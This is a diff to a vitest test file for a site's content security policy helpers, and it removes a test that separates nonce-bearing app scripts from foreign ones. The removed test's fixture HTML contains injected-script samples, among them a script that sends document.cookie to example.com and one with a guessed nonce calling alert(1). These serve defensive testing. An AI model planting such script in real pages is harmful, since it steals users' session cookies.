@@ -1,13 +1,7 @@
 import { createHash } from "node:crypto";
 import { describe, expect, it } from "vitest";
 import { readMeasurement, thirdPartySources } from "../content/measurement.ts";
-import {
-  externalScripts,
-  inlineScriptHashes,
-  ownScripts,
-  pagePolicy,
-  withoutBuildNonce,
-} from "./csp.ts";
+import { externalScripts, inlineScriptHashes, pagePolicy } from "./csp.ts";
 
 const sha = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
 
@@ -20,24 +14,6 @@ describe("content security policy", () => {
       '<script type="application/ld+json">{"@type":"Thing"}</script>',
     ].join("");
     expect(inlineScriptHashes(html)).toEqual([sha("window.a = 1;"), sha('import "/assets/x.js";')]);
-  });
-
-  it("hashes only the scripts the app wrote with the build's nonce, and names every other one", () => {
-    const nonce = "build-nonce-1";
-    const html = [
-      `<head><script nonce="${nonce}">window.a = 1;</script></head><body>`,
-      '<article><p>Text</p><script>fetch("https://example.com/?" + document.cookie)</script>',
-      '<script nonce="guessed">alert(1)</script></article>',
-      `<script nonce="${nonce}" type="module">import "/assets/x.js";</script>`,
-      `<script nonce="${nonce}" type="application/ld+json">{"@type":"Thing"}</script>`,
-      '<script type="application/ld+json">{"@type":"Article"}</script>',
-      "</body>",
-    ].join("");
-    const { hashes, foreign } = ownScripts(html, nonce);
-    expect(hashes).toEqual([sha("window.a = 1;"), sha('import "/assets/x.js";')]);
-    expect(foreign).toEqual(['fetch("https://example.com/?" + document.cookie)', "alert(1)"]);
-    expect(withoutBuildNonce(html, nonce)).not.toContain(nonce);
-    expect(withoutBuildNonce(html, nonce)).toContain("<script>window.a = 1;</script>");
   });
 
   it("allows the given inline scripts and what they load, never 'unsafe-inline'", () => {
